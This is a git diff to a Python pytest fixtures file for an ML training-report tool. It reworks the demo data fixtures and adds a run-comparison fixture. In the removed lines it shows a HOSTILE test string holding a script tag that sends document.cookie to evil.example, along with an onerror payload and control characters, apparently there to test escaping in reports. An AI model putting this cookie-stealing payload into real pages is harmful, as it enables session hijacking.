@@ -13,10 +13,11 @@ from headrace.pipeline.simulate import Costs, simulate
 from headrace.pipeline.timeline import COMMUNICATION, Span, idle_shares
 from headrace.reporting.facts import (
     Agreement,
-    Amount,
     Baseline,
     BitsPerByte,
-    Data,
+    ComparedDifference,
+    ComparedRow,
+    Comparison,
     Difference,
     Estimate,
     Evaluation,
@@ -27,8 +28,6 @@ from headrace.reporting.facts import (
     Publication,
     ReportFacts,
     Sample,
-    Source,
-    Split,
     Stage,
     StepTimeline,
     StudyAblation,
@@ -38,9 +37,9 @@ from headrace.reporting.facts import (
     Training,
 )
 from headrace.reporting.recipe import facts_of, plan_of
+from reporting.invented_data import HOSTILE, environment_data
 
 STEPS, TOKENS_PER_STEP = 1464, 2048
-HOSTILE = "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\x00\x1b[31m"
 
 
 @pytest.fixture(scope="session")
@@ -59,7 +58,7 @@ def demo_facts() -> ReportFacts:
             Difference("train.from", None, "0f3b6a1c9d2e@1400"),
             Difference("evaluate.tasks", ["humaneval_likelihood", "reasoning_gym"], ["humaneval_likelihood"]),
         ),
-        data=_data(),
+        data=environment_data(),
         training=_training(),
         evaluation=_evaluation(),
         publication=Publication(
@@ -275,27 +274,39 @@ def _evaluation() -> Evaluation:
                 "packages/attrs/README.md",
             ),
         ),
+        skipped={"humaneval": "it runs code that the model writes, and there is no sandbox here"},
+        absent=("CMath: not in the harness",),
     )
 
 
-def _data() -> Data:
-    table = (("code", 3622, 29_800_000), ("docs", 1290, 9_700_000), ("text", 302, 1_700_000))
-    splits = []
-    for name, share in (("train", 0.92), ("validation", 0.04), ("held-out", 0.04)):
-        kinds = tuple(Amount(kind, round(documents * share), round(size * share)) for kind, documents, size in table)
-        size = sum(kind.text_bytes for kind in kinds)
-        splits.append(Split(name, sum(kind.documents for kind in kinds), size, round(size / 3.45), kinds))
-    licences = ("PSF-2.0", "BSD-3-Clause", "MIT", "Apache-2.0")
-    names = ("Python standard library 3.11.7", "numpy 2.4.6", "sympy 1.14", "scipy 1.17", "networkx 3.6", "pandas 3.0")
-    return Data(
-        splits=tuple(splits),
-        drops={"exact duplicate": 412, "longer than max_document_bytes": 12, "not UTF-8": 3},
-        sources=tuple(
-            Source(name, licences[i % 4], 900 - 80 * i, 9_000_000 - 850_000 * i) for i, name in enumerate(names)
+@pytest.fixture(scope="session")
+def demo_comparison() -> Comparison:
+    """This run, its twin with another learning rate and a dense one, by two metrics."""
+    ours, twin, dense = _hex("evaluate", 12), _hex("twin", 12), _hex("dense", 12)
+
+    def row(task: str, metric: str, higher: bool, gaps: tuple[float, float]) -> ComparedRow:
+        estimates = [Estimate(2.1 + gap, 2.06 + gap, 2.15 + gap) for gap in (0.0, *gaps)]
+        differences = [
+            ComparedDifference(Estimate(gap, gap - 0.02, gap + 0.021), 0.0004 if abs(gap) > 0.03 else 0.41, 0.029,
+                               ("better" if (gap > 0) == higher else "worse") if abs(gap) > 0.03 else None)
+            for gap in gaps
+        ]  # fmt: skip
+        names = (ours, twin, dense)
+        return ComparedRow(task, metric, higher, 212, 180, dict(zip(names, estimates, strict=True)),
+                           dict(zip(names[1:], differences, strict=True)))  # fmt: skip
+
+    return Comparison(
+        first=ours,
+        runs={ours: (), twin: ("recipe.learning_rate.peak=0.001",), dense: ("model.n_routed_experts=0",)},
+        rows=(
+            row("bits_per_byte", "bits per byte", False, (-0.012, 0.094)),
+            row("bits_per_byte, documentation", "bits per byte", False, (0.004, 0.131)),
+            row("leg_counting", "accuracy", True, (0.01, -0.06)),
         ),
-        refused={"certifi": "MPL-2.0 is not in corpus.licences", "mystery": "declares no licence"},
-        vocabulary=4096,
-        tokenizer_engine="fastokens 0.3.5",
+        adjusted="Holm over 6 differences",
+        power=0.8,
+        left_out=("letter_choice: accuracy",),
+        source="compare/0a1b2c3d4e5f/compare.json",
     )
 
 
